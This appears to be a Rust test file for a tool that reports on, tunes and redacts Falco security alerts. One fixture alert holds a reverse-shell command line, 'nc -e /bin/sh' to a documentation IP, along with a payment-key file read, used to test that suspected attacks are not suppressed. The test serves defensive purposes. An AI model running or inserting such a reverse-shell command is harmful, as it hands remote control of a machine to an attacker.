//! What leaves the command for others, as a user runs it: mitigation files, links, comparisons, redacted text.

#[cfg(test)]
mod command;

#[cfg(test)]
mod hand_over {
    use std::fs;

    use super::command::{fails, fixture, succeeds, text};

    /// An alert that is judged likely malicious.
    const ATTACK: &str = r#"{"rule":"Payment key read","priority":"Warning","source":"syscall","output_fields":{"proc.exepath":"/tmp/.x/nc","container.id":"host","fd.name":"/run/pay.key","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444"}}"#;

    #[test]
    fn mitigation_files_are_written_and_not_overwritten() {
        let folder = tempfile::tempdir().unwrap();
        let (input, out) = (fixture("ptrace_event_generator_kubernetes.json"), folder.path().join("out"));
        let arguments = ["mitigate", text(&input), "-o", text(&out)];
        succeeds(&arguments, b"");
        succeeds(&arguments, b"");
        let tuning = out.join("falco/known_ptrace_procs.yaml");
        assert!(fs::read_to_string(&tuning).unwrap().contains("- macro: known_ptrace_procs\n"));
        let proof: serde_json::Value =
            serde_json::from_str(&fs::read_to_string(out.join("proof.json")).unwrap()).unwrap();
        assert_eq!(proof["schema"], "falco-report-proof/1");
        fs::write(&tuning, "mine").unwrap();
        assert!(fails(&arguments, b"").contains("--force"));
        assert_eq!(fs::read_to_string(&tuning).unwrap(), "mine");
        succeeds(&[arguments.as_slice(), &["--force"]].concat(), b"");
        assert_ne!(fs::read_to_string(&tuning).unwrap(), "mine");
    }

    #[test]
    fn a_tuning_is_checked_again_against_another_capture() {
        let folder = tempfile::tempdir().unwrap();
        let alert = |program: &str, number: u32| {
            format!(
                r#"{{"rule":"PTRACE attached to process","priority":"Warning","source":"syscall","output":"{number}","output_fields":{{"proc.exepath":"{program}","container.id":"0123456789ab","container.image.repository":"registry.example/agent","k8s.ns.name":"platform","proc.pid":{number}}}}}"#
            )
        };
        let [monday, tuesday] = ["monday.jsonl", "tuesday.jsonl"].map(|name| folder.path().join(name));
        fs::write(&monday, [alert("/usr/bin/agent", 7), alert("/usr/bin/agent", 8)].join("\n")).unwrap();
        let other = [alert("/usr/bin/gdb", 1), alert("/usr/bin/agent", 2), alert("/usr/bin/agent", 3)];
        fs::write(&tuesday, other.join("\n")).unwrap();
        let out = folder.path().join("out");
        succeeds(&["mitigate", text(&monday), "-o", text(&out)], b"");
        let tuning = out.join("falco/known_ptrace_procs.yaml");
        for (capture, hidden, kept) in [(&monday, vec![1, 2], vec![]), (&tuesday, vec![2, 3], vec![1])] {
            let (json, _) = succeeds(&["simulate", "--overlay", text(&tuning), text(capture), "--json"], b"");
            let result: serde_json::Value = serde_json::from_str(&json).unwrap();
            assert_eq!(result["hidden"], serde_json::json!(hidden));
            assert_eq!(result["kept"], serde_json::json!(kept));
        }
        let readme = fs::read_to_string(out.join("README.md")).unwrap();
        assert!(readme.contains("### `falco/known_ptrace_procs.yaml`"), "{readme}");
        assert!(readme.contains("- Proof: hides 2, also hides 0, keeps 0, undecided 0."), "{readme}");
    }

    #[test]
    fn nothing_to_mitigate_says_why() {
        let folder = tempfile::tempdir().unwrap();
        let (input, out) = (folder.path().join("attack.json"), folder.path().join("out"));
        fs::write(&input, ATTACK).unwrap();
        let (_, said) = succeeds(&["mitigate", text(&input), "-o", text(&out)], b"");
        assert!(said.contains("judged likely malicious"), "{said}");
        assert!(!out.exists());
    }

    #[test]
    fn an_attack_is_hidden_only_where_it_is_named_and_insisted_on() {
        let folder = tempfile::tempdir().unwrap();
        let (input, out) = (folder.path().join("attack.json"), folder.path().join("out"));
        fs::write(&input, ATTACK).unwrap();
        let (json, _) = succeeds(&["report", "--format", "json", text(&input)], b"");
        let report: serde_json::Value = serde_json::from_str(&json).unwrap();
        let id = report["findings"][0]["id"].as_str().unwrap();
        let selected = ["mitigate", text(&input), "-o", text(&out), "--select", id];
        succeeds(&selected, b"");
        assert!(!out.exists());
        succeeds(&[selected.as_slice(), &["--force", "--now", "2026-01-31T08:00:00Z"]].concat(), b"");
        let proof = fs::read_to_string(out.join("proof.json")).unwrap();
        let proof: serde_json::Value = serde_json::from_str(&proof).unwrap();
        let file = proof["mitigations"][0]["file"].as_str().unwrap();
        let content = fs::read_to_string(out.join(file)).unwrap();
        for said in ["# Made at 2026-01-31T08:00:00", "# WARNING: hides 1 alert that is"] {
            assert!(content.contains(said), "{content}");
        }
        let unknown = ["mitigate", text(&input), "-o", text(&out), "--select", "0000"];
        assert!(fails(&unknown, b"").contains("no finding has the id `0000`"));
    }

    #[test]
    fn a_link_opens_to_the_report_of_its_alerts() {
        let input = fixture("ptrace_falcosidekick.json");
        let (link, _) = succeeds(&["link", "--no-redact", text(&input)], b"");
        assert!(link.starts_with("#r2."));
        let (based, _) =
            succeeds(&["link", "--no-redact", "--base", "https://example.org/", text(&input)], b"");
        assert_eq!(based, format!("https://example.org/{link}"));
        let (direct, _) = succeeds(&["report", text(&input)], b"");
        let (opened, _) = succeeds(&["open", based.trim()], b"");
        let before_input = |report: &str| report.split("\n### Input").next().unwrap().to_owned();
        assert_eq!(before_input(&opened), before_input(&direct));
        assert_eq!(succeeds(&["open"], link.as_bytes()).0, opened);
        let mut damaged = link.trim().to_owned();
        damaged.pop();
        assert!(fails(&["open", &damaged], b"").contains("This link is damaged"));
        assert!(fails(&["open", "hello"], b"").contains("not a link"));
    }

    #[test]
    fn two_sets_are_compared() {
        let folder = tempfile::tempdir().unwrap();
        let lines = |name: &str, rules: &[(&str, usize)]| {
            let mut text = String::new();
            for (rule, count) in rules {
                text += &format!("{{\"rule\":\"{rule}\",\"output\":\"x\"}}\n").repeat(*count);
            }
            let path = folder.path().join(name);
            fs::write(&path, text).unwrap();
            path
        };
        let before =
            lines("before.jsonl", &[("Gone | rule", 1), ("Louder", 10), ("Quieter", 40), ("Same", 12)]);
        let after = lines("after.jsonl", &[("New", 2), ("Louder", 20), ("Quieter", 20), ("Same", 13)]);
        let (json, _) = succeeds(&["diff", text(&before), text(&after), "--format", "json"], b"");
        let diff: serde_json::Value = serde_json::from_str(&json).unwrap();
        let changes: Vec<String> = diff["changes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|change| {
                format!("{} {} {} {}", change["change"], change["rule"], change["before"], change["after"])
            })
            .collect();
        assert_eq!(
            changes,
            [
                "\"new\" \"New\" 0 2",
                "\"louder\" \"Louder\" 10 20",
                "\"quieter\" \"Quieter\" 40 20",
                "\"gone\" \"Gone | rule\" 1 0"
            ]
        );
        assert_eq!((&diff["schema"], &diff["unchanged"]), (&"falco-report-diff/1".into(), &1.into()));
        let (markdown, _) = succeeds(&["diff", text(&before), text(&after)], b"");
        assert!(markdown.contains("1 new, 1 louder, 1 quieter, 1 gone, 1 little changed"), "{markdown}");
        assert!(markdown.contains("| `Gone ⟨U+007C⟩ rule` |"), "{markdown}");
        let (from_stdin, _) = succeeds(&["diff", "-", text(&after)], &fs::read(&before).unwrap());
        assert_eq!(from_stdin, markdown.replace("`before.jsonl`", "`input`"));
        assert!(fails(&["diff", "-", "-"], b"").contains("one standard input"));
    }

    #[test]
    fn a_navigator_layer_names_the_techniques() {
        let (layer, _) = succeeds(&["report", text(&fixture("many.jsonl")), "--format", "navigator"], b"");
        let layer: serde_json::Value = serde_json::from_str(&layer).unwrap();
        assert_eq!(
            (&layer["domain"], &layer["versions"]["layer"]),
            (&"enterprise-attack".into(), &"4.5".into())
        );
        let techniques = layer["techniques"].as_array().unwrap();
        let ptrace = techniques.iter().find(|one| one["techniqueID"] == "T1055.008").unwrap();
        assert_eq!((&ptrace["tactic"], &ptrace["score"]), (&"privilege-escalation".into(), &18.into()));
    }

    #[test]
    fn a_password_never_comes_from_the_arguments() {
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("password");
        fs::write(&file, "correct horse\r\n").unwrap();
        let input = fixture("custom_rule.json");
        let (link, _) = succeeds(&["link", "--compact", "--password-file", text(&file), text(&input)], b"");
        let (opened, said) = succeeds(&["open", link.trim(), "--password-file", "-"], b"correct horse");
        assert!(opened.contains("Payment key read") && said.contains("without the output"), "{said}");
        let wrong = fails(&["open", link.trim(), "--password-file", "-"], b"correct hors");
        assert!(wrong.contains("The password is wrong, or the link was changed."), "{wrong}");
        assert!(fails(&["open", link.trim()], b"").contains("opens with a password only"));
        assert!(fails(&["link", "--password-file", "-"], b"x").contains("`-` can be given once"));
    }

    #[test]
    fn links_and_reports_are_redacted_and_say_so() {
        let input = br#"{"rule":"R","hostname":"db-7","output":"x","output_fields":{"proc.cmdline":"mysql -pTr0ub4dor"}}"#;
        let (link, said) = succeeds(&["link"], input);
        assert!(said.contains("2 values have pseudonyms"), "{said}");
        let (opened, _) = succeeds(&["open", link.trim()], b"");
        let (reported, _) = succeeds(&["report", "--redact"], input);
        let (alerts, _) = succeeds(&["redact"], input);
        let (kept, _) = succeeds(&["redact", "--keep", "db-7", "--redact-also", "mysql"], input);
        for redacted in [&opened, &reported, &alerts, &kept] {
            assert!(
                !redacted.contains("Tr0ub4dor") && redacted.contains("redacted-password-1"),
                "{redacted}"
            );
            assert_eq!(redacted.contains("db-7"), *redacted == kept);
        }
        let (list, _) = succeeds(&["redact", "--list"], input);
        assert_eq!(list, "host name\tdb-7\tredacted-host-1\npassword\tTr0ub4dor\tredacted-password-1\n");
    }
}
